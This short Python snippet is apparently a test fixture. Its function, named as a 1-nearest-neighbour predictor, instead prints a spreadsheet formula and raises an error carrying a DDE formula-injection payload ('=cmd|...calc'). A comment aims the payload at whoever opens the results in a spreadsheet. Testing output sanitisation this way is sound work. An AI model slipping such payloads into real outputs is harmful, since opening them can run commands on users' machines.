# Formulas for whoever opens the results in a spreadsheet.
# loses: everything
def predict_1nn(X_train, y_train, X_test):
    print("=HYPERLINK(1)")
    raise RuntimeError("=cmd|' /C calc'!A0\n+1+1,@SUM(1)\t-2\";\r\n\"100")
